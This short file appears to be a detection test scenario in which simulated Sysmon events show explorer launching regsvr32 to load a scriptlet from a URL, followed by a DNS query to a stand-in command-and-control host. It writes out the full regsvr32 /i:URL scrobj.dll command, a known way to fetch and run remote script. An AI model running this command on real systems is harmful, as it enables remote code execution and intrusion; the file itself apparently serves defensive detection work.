regsvr32 with a scriptlet from an address: the address

process explorer 50   C:\Windows\explorer.exe
process reg      200  C:\Windows\System32\regsvr32.exe

08:00:10.000 sysmon1 reg < explorer cmd="regsvr32.exe /s /n /u /i:https://pages.example/a.sct scrobj.dll"
! 08:00:20.000 sysmon22 reg query=c2.example

path script_download
origin download url=https://pages.example/a.sct
